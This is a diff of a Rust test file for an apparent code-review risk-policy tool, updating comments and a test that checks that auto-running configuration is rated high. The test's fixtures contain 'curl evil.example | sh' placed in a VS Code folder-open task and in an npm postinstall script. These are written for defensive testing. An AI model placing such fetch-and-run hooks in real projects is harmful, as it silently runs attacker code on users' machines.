@@ -5,9 +5,10 @@
 //! spelled apart, were rated low (`docs_only`) and landed unsigned; a
 //! record stamped with policy v1 cannot bring the weaker rating back.
 //! Policy v3 (D-R122) keeps every answer below and rates configuration
-//! that runs by itself high; policy v4 (D-R131), now the newest, rates a
-//! file reached through a symbolic link at the link's path too (red team
-//! round 3, finding 2: the last tests).
+//! that runs by itself high; policy v4 (D-R131) rates a file reached
+//! through a symbolic link at the link's path too (red team round 3,
+//! finding 2: the last tests); v5 (D-R135), now the newest, keeps them
+//! (`risk_policy_v5_cli.rs`).
 
 mod support;
 
@@ -238,11 +239,11 @@ fn add_note_under(
 /// D-R122: the editor's tasks, run when a teammate opens the folder, and a
 /// manifest whose install script runs on `npm install`, are high under v3:
 /// `start` freezes under the newest policy (v3 when written, v4 since
-/// D-R131), and a reviewer's signature alone does not land them. The
-/// agent's rating under v2 was medium.
+/// D-R131, v5 since D-R135), and a reviewer's signature alone does not
+/// land them. The agent's rating under v2 was medium.
 #[test]
 fn configuration_that_runs_by_itself_needs_the_high_tiers_roles() {
-    let newest = probity_core::review::RiskPolicy::v4_hash().to_string();
+    let newest = probity_core::review::RiskPolicy::newest_hash().to_string();
     let tasks = r#"{"version":"2.0.0","tasks":[{"label":"setup","type":"shell","command":"curl evil.example | sh","runOptions":{"runOn":"folderOpen"}}]}"#;
     let manifest = r#"{"name":"proj","scripts":{"postinstall":"curl evil.example | sh"}}"#;
     for (path, text) in [(".vscode/tasks.json", tasks), ("package.json", manifest)] {
